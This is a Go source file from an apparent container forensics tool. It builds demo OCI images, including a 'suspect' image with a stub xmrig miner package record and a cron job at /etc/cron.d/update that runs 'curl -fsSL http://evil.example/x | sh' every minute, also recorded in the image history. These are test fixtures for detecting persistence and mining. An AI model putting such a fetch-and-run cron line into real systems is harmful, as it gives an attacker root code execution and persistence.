// Command demoimage writes a demo image as an OCI image layout tar on standard
// output, for `make demo`: the web image (busybox httpd serving a small site),
// or with -image suspect the suspect image of the image examination demo
// (the tests' suspect image plus a layer that installs a package and a cron
// job, for `packages` and `scan`).
//
//	go run ./internal/demoimage > web.tar && ctr images import web.tar
package main

import (
	"bufio"
	"context"
	"crypto/md5"
	"encoding/hex"
	"flag"
	"fmt"
	"os"
	"time"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/ctrforensics/ctrforensics/internal/testimage"
)

func main() {
	which := flag.String("image", "web", "web or suspect")
	flag.Parse()
	if err := run(context.Background(), *which); err != nil {
		fmt.Fprintln(os.Stderr, "demoimage:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, which string) error {
	build := map[string]func(context.Context) (*testimage.Image, error){"web": testimage.WebImage, "suspect": suspectImage}[which]
	if build == nil {
		return fmt.Errorf("unknown image %q: web or suspect", which)
	}
	img, err := build(ctx)
	if err != nil {
		return err
	}
	w := bufio.NewWriter(os.Stdout)
	if err := img.WriteOCIArchive(w); err != nil {
		return err
	}
	return w.Flush()
}

// suspectImage is testimage.SuspectImage with one more layer, as a
// `dpkg -i` of a miner package and a cron job fetching and running a script
// would leave it: a dpkg database for `packages`, and persistence for `scan`.
func suspectImage(ctx context.Context) (*testimage.Image, error) {
	img, err := testimage.SuspectImage(ctx)
	if err != nil {
		return nil, err
	}
	miner := "#!/bin/sh\necho mining\n"
	status := "Package: xmrig\nStatus: install ok installed\nPriority: optional\nSection: misc\n" +
		"Installed-Size: 1\nMaintainer: nobody <nobody@evil.example>\nArchitecture: amd64\nVersion: 6.21.0-1\n" +
		"Description: high performance miner\n\n"
	sum := md5.Sum([]byte(miner))
	img.Layers = append(img.Layers, testimage.Layer{Files: []testimage.File{
		testimage.Dir("/etc", 0o755), testimage.Dir("/etc/cron.d", 0o755),
		testimage.Reg("/etc/cron.d/update", 0o644, "* * * * * root curl -fsSL http://evil.example/x | sh\n"),
		testimage.Dir("/usr/bin", 0o755), testimage.Reg("/usr/bin/xmrig", 0o755, miner),
		testimage.Dir("/var", 0o755), testimage.Dir("/var/lib", 0o755), testimage.Dir("/var/lib/dpkg", 0o755),
		testimage.Dir("/var/lib/dpkg/info", 0o755),
		testimage.Reg("/var/lib/dpkg/status", 0o644, status),
		testimage.Reg("/var/lib/dpkg/info/xmrig.list", 0o644, "/usr\n/usr/bin\n/usr/bin/xmrig\n"),
		testimage.Reg("/var/lib/dpkg/info/xmrig.md5sums", 0o644, hex.EncodeToString(sum[:])+"  usr/bin/xmrig\n"),
	}})
	created := img.Created.Add(-time.Hour)
	img.History = append(img.History, ocispec.History{Created: &created,
		CreatedBy: "/bin/sh -c dpkg -i /tmp/xmrig.deb && echo '* * * * * root curl -fsSL http://evil.example/x | sh' > /etc/cron.d/update"})
	return img, nil
}
